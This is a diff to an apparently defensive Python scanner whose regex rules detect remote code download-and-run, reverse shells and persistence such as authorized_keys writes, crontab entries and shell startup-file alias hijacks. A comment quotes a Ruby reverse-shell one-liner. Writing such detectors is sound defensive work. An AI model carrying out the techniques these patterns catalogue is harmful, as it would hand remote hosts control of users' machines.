@@ -6,6 +6,7 @@ agent follows, so a command in it is as good as run.
 """
 from __future__ import annotations
 
+import bisect
 import re
 from dataclasses import replace
 
@@ -52,7 +53,8 @@ def _saved_then_run(producer: str, written: str) -> str:
         rf"\b{producer}[^\n;&|>]{{0,200}}?(?:{written}|>\s*)"
         r"[\"']?" + _atomic(r"[\w.~$/-]{1,120}", "file") + r"[\"']?" + _atomic(r"[^\n;&|]{0,120}", "args")
         + r"(?:&&|;|\n)(?:" + _atomic(r"[^\n;&|]{0,120}(?:&&|;|\n)", "then") + r")?[ \t]*"
-        r"(?:sudo\s+(?:-\S+\s+)*)?(?:(?:(?:ba|z|da|k)?sh|source|\.|python[23]?|node|perl|ruby|pwsh|powershell)\s+"
+        r"(?:(?:sudo|nohup|exec)\s+(?:-\S+\s+)*)*(?:(?:(?:ba|z|da|k)?sh|source|\.|python[23]?|node|perl|ruby|pwsh|"
+        r"powershell)\s+"
         r"(?:-\S+\s+)*[\"']?(?:\./)?|\./)?(?P=file)(?![\w.-])")
 
 
@@ -60,18 +62,24 @@ def _saved_then_run(producer: str, written: str) -> str:
 _SAVED_THEN_RUN = _saved_then_run(r"(?:curl|wget)\b", r"\s-[A-Za-z]*o\s*|\s--output[= ]\s*|\s-[A-Za-z]*O\s*(?!-)|"
                                                    r"\s--output-document[= ]\s*")
 #: A decoded payload saved to a file (``> FILE``, ``-o FILE``, ``-out FILE``), then that file run.
-_DECODED_THEN_RUN = _saved_then_run(r"(?:base64\s+(?:-\w+\s+)*(?:-d|--decode|-D)|xxd\s+(?:-\w+\s+)*-r|"
+_DECODED_THEN_RUN = _saved_then_run(r"(?:base64\s+(?:-\w+\s+)*(?:-[a-zA-Z]*[dD][a-zA-Z]*|--decode)|xxd\s+(?:-\w+\s+)*-r|"
                                     r"openssl\s+(?:base64|enc)\s+[^\n;&|>]{0,80}?-d)\b",
                                     r"\s-o\s*|\s--output[= ]\s*|\s-out\s+")
+#: A URL as an argument of a command (a word or a variable, after a space, a quote or a separator):
+#: :func:`_given_to_a_command` checks that the command starts its line or segment.
+_URL_ARGUMENT = (r"(?<![^\s;&|(`\"'])(?:\$\{?\w+\}?|[\w./-]+)(?:[ \t]+-{1,2}[\w-]+(?:[= ][^\s|;\"']+)?)*"
+                 r"[ \t]+[\"']?(?:https?|ftp)://")
 _INSTALLER_URL = re.compile(r"\b(https?)://([^/\s\"'`)]+)(/[^\s\"'`)]*)?", re.IGNORECASE)
 _IP_ADDRESS = re.compile(r"^\d+\.\d+\.\d+\.\d+(?::\d+)?$")
 #: Something to download: a URL, a variable, or a host name ("curl | sh" alone is a mention).
 _SOURCE = re.compile(r"://|\$|\b[\w-]+\.[a-z]{2,}(?:/|:\d|\b)", re.IGNORECASE)
 
 
-def _in_table_row(doc: Document, start: int) -> bool:
-    """Whether ``start`` is on a line of a Markdown table (its cells are split by pipes)."""
-    return doc.folded[doc.folded.rfind("\n", 0, start) + 1:start].lstrip().startswith("|")
+def _given_to_a_command(doc: Document, start: int) -> bool:
+    """Whether the word at ``start`` starts its line or a segment of it (after ``;``, ``&``, ``|``,
+    ``(`` or a backtick): the command, not a word of prose or a table's cell."""
+    before = doc.folded[doc.folded.rfind("\n", 0, start) + 1:start].rstrip(" \t")
+    return not before or before[-1] in ";&|(`"
 
 
 def _installer_host(segment: str) -> tuple[str, bool, bool]:
@@ -99,9 +107,10 @@ def _installer_host(segment: str) -> tuple[str, bool, bool]:
           pattern(r"\b(?:exec|eval)\s*\(\s*(?:requests\.get|urllib\.request\.urlopen|urlopen|httpx\.get)\s*\([^\n]*"),
           pattern(r"\b(?:eval|new\s+Function|Function)\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?fetch\s*\([^\n]*"),
           pattern(_SAVED_THEN_RUN),
-          # whatever fetches it: a variable ($c https://... | sh), fetch, http, xh
-          command(r"\b(?:https?|ftp)://", r"[^\n|;]*", _PIPED, condition=lambda doc, match, hit: (
-              None if _in_table_row(doc, match.start()) else _downloaded(doc, match, hit))),
+          # whatever fetches it ($c https://... | sh, fetch, http, xh): a URL given to the command
+          # that starts the line or the segment (not a URL in a table's cell beside a language)
+          command(_URL_ARGUMENT, r"[^\n|;]*", _PIPED, condition=lambda doc, match, hit: (
+              _downloaded(doc, match, hit) if _given_to_a_command(doc, match.start()) else None)),
       ))
 def remote_code(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
     """Something is downloaded (not "curl | sh" alone); a known project's HTTPS installer is medium."""
@@ -224,7 +233,28 @@ def url_install(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
 #: port check or HTTP request).
 _DEV_TCP = r"/dev/(?:tcp|udp)/(?!localhost/|127\.)[\w.${}-]+/\d+"
 #: A shell (a path to it too) or Windows' command interpreter: what a reverse shell runs.
-_A_SHELL = r"(?:/usr)?(?:/bin/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)\b"
+_A_SHELL = r"(?:/usr(?:/local)?)?(?:/bin/)?(?:(?:ba|z|da|k|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)\b"
+
+#: A socket connected, by name (Python): ``s.connect((host, port))``.
+_CONNECTED = re.compile(r"\b(\w+)\s*\.\s*connect\s*\(")
+#: A shell spawned (Python).
+_SHELL_SPAWNED = re.compile(rf"\b(?:pty\.spawn|subprocess\.\w+|os\.exec\w*|os\.system|Popen|call|run)\s*\(\s*\[?\s*"
+                            rf"[\"']{_A_SHELL}", re.IGNORECASE)
+#: How far after the streams are redirected the shell may be spawned.
+_SPAWN_REACH = 600
+
+
+def _socket_handed_a_shell(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
+    """Python over several lines: the socket made a standard stream (the match) was connected,
+    and a shell is spawned within a few lines after (a pty terminal or a daemon redirects streams,
+    but to no socket).  What the document connects and spawns is searched once per document."""
+    sockets = doc.remember(_CONNECTED, lambda: {m.group(1) for m in _CONNECTED.finditer(doc.folded)})
+    spawns = doc.remember(_SHELL_SPAWNED, lambda: [m.start() for m in _SHELL_SPAWNED.finditer(doc.folded)])
+    at = bisect.bisect_right(spawns, match.end())
+    if match.group(1) not in sockets or at == len(spawns) or spawns[at] > match.end() + _SPAWN_REACH:
+        return None
+    return replace(hit, end=spawns[at] + 1)
+
 
 REVERSE_SHELL = Rule(
     "SK634", "remote-code", "high", "reverse shell: hands a shell on this machine to a remote host",
@@ -251,45 +281,53 @@ REVERSE_SHELL = Rule(
         pattern(rf"\bfsockopen\s*\([^\n]{{0,400}}\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*"
                 rf"[\"']{_A_SHELL}"),
         # ruby -rsocket -e 'f=TCPSocket.open("host",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'
+        # Python over several lines: os.dup2(s.fileno(), 0) of a connected socket, then a shell
+        pattern(r"\bos\.dup2\s*\(\s*(\w+)\.fileno\(\)\s*,\s*(?:[0-2]|\w+)\s*\)", condition=_socket_handed_a_shell),
         pattern(rf"\bTCPSocket\.(?:open|new)\b[^\n]{{0,400}}(?:\b(?:exec|spawn|system)\b[^\n]{{0,40}}?[\"']"
                 rf"{_A_SHELL}|\bIO\.popen\s*\(\s*\$_)"),
-        # Python over several lines: the socket made the standard input, then a shell spawned
-        pattern(rf"\bos\.dup2\s*\(\s*\w+(?:\.fileno\(\))?\s*,\s*0\s*\)[\s\S]{{0,600}}?"
-                rf"\b(?:pty\.spawn|subprocess\.\w+|os\.exec\w*|os\.system|Popen|call|run)\s*\(\s*\[?\s*[\"']{_A_SHELL}",
-                scope="folded"),
     ))
 
 #: A home folder as a command names it.
-_HOME = r"(?:~|\$\{?HOME\}?|/root|/home/[\w.-]+)"
-#: Written by a redirection or tee (appended or not).
-_WRITTEN_TO = r"(?:>>?|\btee\s+(?:-a\s+|--append\s+)?)\s*[\"']?"
+_HOME = r"(?:~[\w.-]*|\"?\$\{?(?:HOME|ZDOTDIR)\}?\"?|/root|/home/[\w.-]+|/Users/[\w.-]+)"
+#: Written by a shell redirection (after a space, a quote or a file descriptor: not the end of an
+#: HTML tag or an arrow) or by tee (appended or not).
+_WRITTEN_TO = r"(?:(?<=[\s'\"\d])>>?|\btee\s+(?:-[a-z]+\s+|--append\s+)*)[ \t]*[\"']?"
 #: A shell's startup files: what they hold runs in every new shell.
-_STARTUP_FILE = r"\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|zlogin|config/fish/config\.fish)\b"
-#: What a startup file's line does that hijacks a command or the prompt rather than setting a path.
-_HIJACKS = r"\b(?:alias\s+[\w.-]+=|function\s+\w+|\w+\s*\(\)\s*\{|PROMPT_COMMAND=|LD_PRELOAD=|trap\s+[^\n]*\bDEBUG\b)"
+_STARTUP_FILE = (r"(?:/\.(?:bashrc|bash_profile|bash_login|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|"
+                 r"config/fish/config\.fish)\b)")
+_SYSTEM_STARTUP = r"/etc/(?:profile\.d/|bash\.bashrc\b|profile\b|zsh/?zshrc\b|environment\b)"
+#: A line that hijacks a common command or the prompt rather than setting a path.
+_HIJACKS = (r"\b(?:alias\s+(?:--\s+)?(?:sudo|su|ssh|scp|git|python[23]?|pip[23]?|node|npm|npx|ls|cd|cat|curl|wget|"
+            r"bash|sh|zsh|docker|kubectl|gpg|passwd|apt|apt-get|brew|make|vim?|nano|code)=|function\s+(?:sudo|ssh|git|cd|ls)\b|"
+            r"PROMPT_COMMAND=|LD_PRELOAD=|trap\s+[^\n]{0,200}\bDEBUG\b)")
+#: A public key written out: ssh-ed25519 AAAA..., a FIDO sk- key.
+_PUBLIC_KEY = (r"\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\w+|sk-(?:ssh-ed25519|ecdsa-sha2-nistp256)@openssh\.com)\s+"
+               + _atomic(r"[A-Za-z0-9+/=]{8,4000}", "key"))
+_AUTHORIZED_KEYS = r"/\.ssh/+authorized_keys2?\b"
 
 PERSISTENCE = Rule(
     "SK635", "remote-code", "medium", "persistence: makes something run later, or lets a key log in",
     "A skill's work ends with the session; a line added to authorized_keys lets a remote key log in to this "
     "machine (high when the key is written in the skill), and a crontab, a scheduled task, a Run key or an "
-    "alias in a shell's startup file runs code later, unseen. A startup file's other lines (a PATH) and "
-    "services, launch agents and git hooks are low.", COMMANDS, patterns=(
-        command(r"\b(?:echo|printf|cat)\b", r"[^\n]*",
-                rf"\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\w+)\s+[A-Za-z0-9+/]{{8}}[^\n]*{_WRITTEN_TO}(?:{_HOME}|\$\{{?\w+\}}?)"
-                r"/\.ssh/authorized_keys2?\b", lazy=True, severity="high"),
-        pattern(rf"{_WRITTEN_TO}(?:{_HOME}|\$\{{?\w+\}}?)?/?\.ssh/authorized_keys2?\b|"
+    "alias of a common command in a shell's startup file runs code later, unseen. A startup file's other lines "
+    "(a PATH) and services, launch agents and git hooks are low.", COMMANDS, patterns=(
+        command(r"\b(?:echo|printf|cat)\b", r"[^\n]*", rf"{_PUBLIC_KEY}[^\n]{{0,300}}?{_WRITTEN_TO}(?:{_HOME}|\$\{{?\w+\}}?)"
+                rf"{_AUTHORIZED_KEYS}", lazy=True, severity="high"),
+        pattern(rf"{_WRITTEN_TO}(?:{_HOME}|\$\{{?\w+\}}?)?/?\.ssh/+authorized_keys2?\b|"
                 r"\bauthorized_keys2?[\"']\s*\)*\s*,\s*[\"'](?:a|w)\+?b?[\"']|"
                 r"\bauthorized_keys2?[\"']?\s*\)*\s*\.\s*(?:write_text|open\s*\(\s*[\"']a)"),
-        command(r"\b(?:echo|printf)\b", r"[^\n]*", rf"{_HIJACKS}[^\n]*{_WRITTEN_TO}{_HOME}/{_STARTUP_FILE}",
-                lazy=True),
-        pattern(rf"{_WRITTEN_TO}{_HOME}/{_STARTUP_FILE}", severity="low"),
+        command(r"\b(?:echo|printf)\b", r"[^\n]*", rf"{_HIJACKS}[^\n]{{0,300}}?{_WRITTEN_TO}(?:{_HOME}{_STARTUP_FILE}|"
+                rf"{_SYSTEM_STARTUP})", lazy=True),
+        pattern(rf"{_WRITTEN_TO}(?:{_HOME}{_STARTUP_FILE}|{_SYSTEM_STARTUP})", severity="low"),
         pattern(r"\|\s*(?:sudo\s+)?crontab\s+(?:-u\s+\S+\s+)?-(?=\s|$|[;&|)\"'`])|"
+                r"\bcrontab\s+(?:-u\s+\S+\s+)?(?!-)[\w./~$-]+(?=\s*(?:$|[;&|)#]))|"
                 rf"{_WRITTEN_TO}/(?:etc/cron(?:tab|\.d|\.hourly|\.daily|\.weekly|\.monthly)|var/spool/cron)\b|"
                 r"\bschtasks(?:\.exe)?\s+/create\b|\bRegister-ScheduledTask\b|"
                 r"\breg(?:\.exe)?\s+add\s+[\"']?HK(?:CU|LM|EY_CURRENT_USER|EY_LOCAL_MACHINE)\\+Software\\+Microsoft\\+"
                 r"Windows\\+CurrentVersion\\+Run(?:Once)?\b|"
-                r"\bHK(?:CU|LM):\\+Software\\+Microsoft\\+Windows\\+CurrentVersion\\+Run(?:Once)?\b"),
-        pattern(rf"\bsystemctl\s+--user\s+enable\b|\blaunchctl\s+(?:load|bootstrap)\b|"
+                r"\b(?:Registry::)?HK(?:CU|LM|EY_CURRENT_USER|EY_LOCAL_MACHINE):?\\*Software\\+Microsoft\\+Windows\\+"
+                r"CurrentVersion\\+Run(?:Once)?\b"),
+        pattern(rf"\bsystemctl\s+(?:--user\s+enable|enable\s+--user)\b|\blaunchctl\s+(?:load|bootstrap)\b|"
                 rf"{_WRITTEN_TO}{_HOME}/Library/LaunchAgents/|{_WRITTEN_TO}(?:\S*/)?\.git/hooks/[\w-]+",
                 severity="low"),
     ))
